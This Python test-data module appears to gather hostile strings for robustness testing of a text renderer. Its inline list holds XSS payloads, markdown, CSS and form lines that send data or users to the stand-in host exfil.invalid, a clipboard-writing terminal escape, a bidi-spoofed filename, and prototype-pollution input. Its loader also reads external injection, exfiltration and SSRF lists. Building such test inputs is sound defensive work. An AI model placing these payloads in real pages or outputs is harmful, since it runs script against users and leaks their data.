"""Texts that try to become markup, code, requests or another reading order."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

_LONGEST = 5000
OWN = (
    "<script>alert(1)</script>",
    "<img src=https://exfil.invalid/x onerror=alert(1)>",
    '"><svg onload=alert(1)><a href=javascript:alert(1)>x</a>',
    "</p></article><iframe src=https://exfil.invalid></iframe>",
    "<style>@import url(https://exfil.invalid/x)</style><link rel=stylesheet href=https://exfil.invalid>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)}",
    "![a](https://exfil.invalid/?d=SECRET) [b](javascript:alert(1))",
    "\u202egnp.exe \u2067 \u200b\ufeff",
    "\x1b]52;c;aGk=\x07\x1b[2J",
    "👩‍👩‍👧‍👦 𝒻ℴ𝓃𝓉 e\u0301\u0301\u0301 \U0001f1e9\U0001f1ea",
    "__proto__",
    "<base href=https://exfil.invalid/><form action=https://exfil.invalid><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://exfil.invalid'>",
)


def texts(data: Path) -> list[str]:
    """Our own, and all of the evaluation data where it is at hand; none is empty."""
    found = {*OWN, *(_collected(data) if data.is_dir() else ())}
    return sorted({text for text in map(_encodable, found) if text.strip()})


def _collected(data: Path) -> Iterator[str]:
    yield from json.loads((data / "blns" / "blns.json").read_text(encoding="utf-8"))
    for name in ("injections", "citation_spoof", "exfil_markdown", "terminal", "unicode"):
        for line in (data / "own" / f"{name}.jsonl").read_text(encoding="utf-8").split("\n"):
            yield from (json.loads(line)["text"],) if line else ()
    for name in ("textual_markup.txt", "ssrf_urls.txt", "filenames.txt"):
        yield from (data / "own" / name).read_text(encoding="utf-8", errors="replace").split("\n")
    for attacks in json.loads((data / "injection_attacks.json").read_text(encoding="utf-8")).values():
        yield from attacks
    for page in (data / "own" / "articles").iterdir():
        yield page.read_text(encoding="utf-8", errors="replace")


def _encodable(text: str) -> str:
    return text[:_LONGEST].encode("utf-8", "replace").decode().replace("\x00", "")
